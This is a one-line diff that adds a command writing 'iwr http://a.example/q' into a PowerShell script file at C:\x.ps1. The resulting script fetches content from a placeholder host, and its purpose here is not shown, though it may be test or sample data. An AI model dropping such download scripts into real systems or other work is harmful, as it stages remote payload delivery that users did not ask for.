@@ -1,0 +1,1 @@
+'iwr http://a.example/q' > C:\x.ps1
